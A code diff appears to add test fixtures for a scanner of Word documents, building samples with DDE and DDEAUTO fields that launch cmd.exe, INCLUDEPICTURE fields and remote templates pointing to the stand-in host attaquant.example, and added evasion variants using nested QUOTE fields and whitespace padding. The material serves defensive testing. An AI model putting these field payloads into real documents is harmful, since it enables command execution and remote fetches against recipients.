@@ -128,6 +128,11 @@ def of_compound() -> dict[str, File]:
         "a field that runs": doc(b'\x13 DDEAUTO c:\\\\cmd.exe "/k calc" \x14\x15'),
         "a field that runs, in 16 bits": doc("\x13 DDE cmd a \x14\x15".encode("utf-16-le")),
         "a field that fetches": doc(b'\x13 INCLUDEPICTURE "https://attaquant.example/a" \x14\x15'),
+        "a picture that a field tells": doc(
+            b'\x13 INCLUDEPICTURE \x13 QUOTE "https://attaquant.example/" \x14\x15 \x14\x15'
+        ),
+        "a field that another names": doc(b'\x13 \x13 QUOTE "DDEAUTO" \x14\x15 cmd a \x14\x15'),
+        "a field behind blanks": doc(b"\x13" + b" " * 3000 + b"DDE cmd a \x14\x15"),
         "a template elsewhere": doc(template="https://attaquant.example/a.dot"),
         "a template on a share": doc(template=r"\\attaquant.example\a.dot"),
         "a password": doc(flags=0x0300),
